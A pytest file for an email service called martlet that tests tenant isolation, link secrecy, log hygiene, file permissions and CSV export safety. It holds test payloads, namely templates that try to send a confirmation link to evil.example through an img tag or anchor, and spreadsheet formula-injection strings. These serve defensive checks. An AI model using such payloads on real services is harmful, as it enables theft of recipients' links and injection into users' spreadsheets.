"""Trust and leaks, from outside with two accounts: recipients' links, other accounts, files, logs, what a spreadsheet or a relay is handed."""

import csv
import io
import os
import re
import stat

import pytest

from martlet import databases, sns
from martlet.emails import email, listed, reaches, source
from martlet.policy import PolicyConnection
from martlet.programs import free_port
from martlet.server import MASTER, Server
from martlet.wait import eventually
from test_cli import martlet

LINK = re.compile(rb"/[uc]/[A-Za-z0-9_-]{43}")
needs_sqlite = pytest.mark.skipif(bool(databases.SERVER), reason="about SQLite files")


@pytest.fixture(scope="module")
def port():
    return free_port()


@pytest.fixture(scope="module")
def server(start_server, port):
    return start_server(
        MARTLET_POLICY_LISTEN=f"127.0.0.1:{port}", MARTLET_POLICY_UNKNOWN_DOMAIN="reject", MARTLET_PUBLIC_URL="https://mail.example",
        MARTLET_SNS_VERIFY_SIGNATURES="false", MARTLET_LOG_LEVEL="debug")


def unfolded(body):
    return body.replace(b"=\r\n", b"")


def pages(server, token, paths):
    """The bodies of dashboard pages, as a browser with this token's session gets them."""
    browser = server.client(None)
    answer = browser.post("/dashboard/login", f"token={token}", Content_Type="application/x-www-form-urlencoded")
    assert answer.status == 303, answer
    cookie = "; ".join(value.partition(";")[0] for value in answer.headers.get_all("Set-Cookie"))
    found = [browser.get(path, Cookie=cookie) for path in paths]
    # A text has no preview of its HTML.
    assert all(page.status == 200 or path.endswith("/preview") for path, page in zip(paths, found)), found
    return [page.body for page in found]


def shown(server, client, id):
    """All that shows an email: by API, as source, and on each page."""
    path = f"/dashboard/emails/{id}"
    api = [client.get(f"/emails/{id}").body, client.get(f"/emails/{id}/source").body, client.get("/emails").body]
    return [unfolded(body) for body in api + pages(
        server, client.token, [path, f"{path}?view=html", f"{path}?view=text", f"{path}?view=source", f"{path}/preview", f"{path}/message"])]


def test_unsubscribe_links_are_the_recipients(server, account, domain):
    sent = account.post("/emails?unsubscribeMsg=Leave", email(domain, text="<p>Hello</p>", to="eva.lang@customer.example")).data
    reaches(account, sent["id"], "DELIVERED")
    bodies = shown(server, account, sent["id"])
    assert not [body for body in bodies if LINK.search(body)]
    assert b"https://mail.example/u/hidden" in bodies[1] and b"Leave" in bodies[1]
    assert [body for body in shown(server, server.master, sent["id"]) if LINK.search(body)], "the master has the local mailbox"


def test_an_opt_in_cannot_be_forged(server, account, domain):
    """The account that asks for it never sees the link; nor can it have the link sent to itself, by a picture in its own text."""
    body = {"email": "ann.lang@customer.example", "list": "news", "from": f"news@{domain}"}
    requested = account.post("/subscriptions", body)
    assert requested.status == 202 and not LINK.search(requested.body)
    id = eventually(lambda: listed(account, "to=ann.lang@customer.example"))[0]["id"]
    assert not [body for body in shown(server, account, id) if LINK.search(body)]
    assert b"/c/hidden" in account.get(f"/emails/{id}").body
    for text in ("https://evil.example/?{{link}}", "<img src='https://evil.example/? {{link}}'><p>{{link}}</p>", "<a href='https://evil.example/{{link}}'>x</a>"):
        assert account.post("/subscriptions", body | {"email": "b@customer.example", "text": text}).status == 422
    link = re.search(rb"/c/[A-Za-z0-9_-]{43}", unfolded(server.master.get(f"/emails/{id}/source").body)).group().decode()
    stranger = server.client(None)
    page = stranger.get(link)
    assert b"a***@customer.example" in page.body and b"ann.lang" not in page.body
    # SES says which link was clicked.
    click = sns.event("Click", f"capture-{id}", f"news@{domain}", "ann.lang@customer.example", {"link": f"https://mail.example{link}"})
    assert stranger.post("/webhooks/ses", sns.envelope(click)).status == 200
    reaches(account, id, "CLICK")
    assert not [body for body in shown(server, account, id) if LINK.search(body)]
    assert account.get("/subscriptions?list=news").data[0]["status"] == "PENDING"
    assert stranger.post(link).status == 200
    assert account.get("/subscriptions?list=news").data[0]["status"] == "CONFIRMED"


def test_links_reach_the_provider(start_sink, start_server):
    """With SES nobody but the recipient has them: not even the master."""
    sink = start_sink()
    server = start_server(**{**sink.environment, "MARTLET_PUBLIC_URL": "https://mail.example"})
    account = server.account()
    domain = server.domain(account)
    id = account.post("/emails?unsubscribeMsg=Leave", email(domain)).data["id"]
    sink.message_id_of(id)
    for client in (account, server.master):
        assert not LINK.search(unfolded(client.get(f"/emails/{id}/source").body))


def test_ids_tell_nothing_of_others(server):
    one, other = server.account(), server.account()

    def made():
        found = []
        for client in (one, other, one):
            name = f"leak-{os.urandom(4).hex()}.example"
            found.append((
                client.post("/domains", {"name": name}).json["id"],
                client.post("/suppressions", {"address": f"{name[:13]}@customer.example"}).data["id"],
                client.post("/callback-endpoints", {"url": f"https://{name}/x"}).data["id"],
                server.master.post("/api-keys", {"partner_ref": client.ref, "name": "k"}).json["id"],
            ))
        return found

    rows = [*made(), *made()]
    for column in zip(*rows):
        assert list(column) == sorted(column) and max(column) < 2**53
        assert all(later - earlier > 1 for earlier, later in zip(column, column[1:]))
    newest_first = [domain["id"] for domain in one.get("/domains").json]
    assert newest_first == sorted(newest_first, reverse=True) and len(newest_first) == 4
    assert [domain["id"] for domain in one.get(f"/domains?after={newest_first[1]}").json] == newest_first[2:]


def test_another_account_does_not_exist(server, account, domain):
    """Lists, filters and cursors of one account know nothing of another's; what is another's is answered like what does not exist."""
    id = account.post("/emails", email(domain, to="eva.lang@customer.example", externalId="campaign", tags=["tag"])).data["id"]
    entry = account.post("/suppressions", {"address": "secret@customer.example"}).data["id"]
    reaches(account, id, "DELIVERED")
    spy = server.account()
    for query in ("to=eva.lang@customer.example", f"from=news@{domain}", "externalId=campaign", "tag=tag", f"after={id}", ""):
        assert spy.get(f"/emails?{query}").data == []
    assert spy.get("/suppressions?address=secret@customer.example").data == []
    absent = "0192f0c1-0000-7000-8000-000000000000"
    for method, path, nothing in (
        ("GET", f"/emails/{id}", f"/emails/{absent}"), ("GET", f"/emails/{id}/source", f"/emails/{absent}/source"),
        ("DELETE", f"/emails/{id}", f"/emails/{absent}"), ("GET", f"/domains/{domain}", "/domains/absent.example"),
        ("GET", f"/domains/{domain}/outbound", "/domains/absent.example/outbound"), ("DELETE", f"/suppressions/{entry}", "/suppressions/1"),
    ):
        answers = [spy.request(method, path) for path in (path, nothing)]
        said = [re.sub(rb'"(timestamp|transactionId)":"?\w+"?', b"", answer.body).replace(domain.encode(), b"absent.example") for answer in answers]
        assert answers[0].status == answers[1].status == 404 and said[0] == said[1], answers
    refused = [spy.post("/emails", email(name)) for name in (domain, "absent.example")]
    assert [answer.status for answer in refused] == [403, 403]
    assert refused[0].explain.replace(domain, "absent.example") == refused[1].explain


def test_mail_servers_cannot_charge_others(server, port):
    one, other = server.account(), server.account()
    domain, foreign = server.domain(one), server.domain(other)
    with PolicyConnection(port) as connection:
        assert connection.ask(f"news@{domain}", sasl_username=f"ann@{domain}") == "DUNNO"
        assert connection.ask(f"news@{domain}", sasl_username=f"eve@{foreign}", instance="2").startswith("REJECT 5.7.1")
        assert connection.ask("", sasl_username="eve", instance="3").startswith("REJECT 5.7.1"), "a login without a domain"
        assert connection.ask("", instance="4") == "DUNNO", "a bounce of the mail server's own"
    assert server.outbound(domain)["outbound_sent_today"] == 1 and server.outbound(foreign)["outbound_sent_today"] == 0


def test_cells_are_no_formulas(server, account):
    notes = ["=1+1", "hi;=1+1", "hi,\t=1+1", "\uff1d1+1", "x\r\n@SUM(A1)", "x; +1", "it's", "-5", "a;b"]
    for number, note in enumerate(notes):
        assert account.post("/suppressions", {"address": f"r{number}@customer.example", "note": note.replace("\r\n", " ")}).status in (201, 422)
    kept = {entry["address"]: entry.get("note") for entry in account.get("/suppressions").data}
    exported = account.get("/suppressions?format=csv").body.decode()
    for separator in ",;\t":
        for line in csv.reader(io.StringIO(exported), delimiter=separator, quoting=csv.QUOTE_NONE):
            assert not [cell for cell in line if re.match("[ \"]*[=+@\uff1d\uff0b\uff0d\uff20]", cell)], line
    for entry in account.get("/suppressions").data:
        account.delete(f"/suppressions/{entry['id']}")
    assert account.post("/suppressions/import", exported, Content_Type="text/csv").status == 200
    assert {entry["address"]: entry.get("note") for entry in account.get("/suppressions").data} == kept


@pytest.mark.parametrize("name", ["X-SMTPAPI", "X-Mailgun-Variables", "X-MC-Subaccount", "X-SES-CONFIGURATION-SET", "X-PM-Message-Stream", "X-MSYS-API"])
def test_relays_are_the_operators(account, domain, name):
    answer = account.post("/emails", email(domain, headers={name: "x"}))
    assert answer.status == 422 and name in answer.explain
    assert account.post("/emails", email(domain, headers={"X-Campaign": "x"})).status == 202


def test_logs_name_nobody(server, account, domain):
    """After all of this file: no address, no token of anybody, no link of a recipient."""
    id = account.post("/emails", email(domain, to="eva.lang@customer.example")).data["id"]
    reaches(account, id, "DELIVERED")
    link = re.search(rb"/u/[A-Za-z0-9_-]{43}", unfolded(server.master.get(f"/emails/{id}/source").body)).group().decode()
    assert server.client(None).post(link).status == 200
    log = server.log
    assert "/u/{token}" in log
    for secret in ("eva.lang", "ann.lang", link, account.token, MASTER, "?to=", "unsubscribeMsg"):
        assert secret not in log, secret


def test_ses_needs_its_topics(tmp_path):
    """Any AWS account can have a topic, and confirm it first."""
    aws = {"MARTLET_TRANSPORT": "ses", "AWS_REGION": "eu-west-1", "AWS_ACCESS_KEY_ID": "x", "AWS_SECRET_ACCESS_KEY": "x"}
    for command in ("check-config", "serve"):
        done = martlet(tmp_path, command, **aws)
        assert done.returncode == 78 and "MARTLET_SNS_TOPIC_ARNS is not set" in done.stdout + done.stderr
    assert martlet(tmp_path, "check-config", **aws, MARTLET_SNS_TOPIC_ARNS=sns.TOPIC).returncode == 0


@needs_sqlite
def test_wide_files_are_narrowed(tmp_path):
    """A database of before, or one that was copied: in a folder of all, with the usual umask."""
    folder = tmp_path / "shared"
    folder.mkdir()
    folder.chmod(0o777)
    server = Server(tmp_path / "server", MARTLET_DATABASE_URL=f"sqlite:{folder}/martlet.sqlite")
    before = os.umask(0o022)
    try:
        server.start()
        server.kill()
        for path in folder.glob("martlet.sqlite*"):
            path.chmod(0o644)
        server.start()
        modes = {path.name: stat.S_IMODE(path.stat().st_mode) for path in folder.iterdir()}
    finally:
        os.umask(before)
        server.stop()
    assert {"martlet.sqlite", "martlet.sqlite-wal", "martlet.sqlite-shm"} <= set(modes) and set(modes.values()) == {0o600}, modes


def test_the_token_is_in_its_file_alone(start_server):
    """Standard output is no terminal here, but a log."""
    server = start_server(MARTLET_MASTER_TOKEN=None)
    token = eventually(lambda: next(iter(server.directory.rglob("master-token")), None), what="the token's file")
    assert stat.S_IMODE(token.stat().st_mode) == 0o600
    assert token.read_text().strip() not in server.log and str(token.name) in server.log
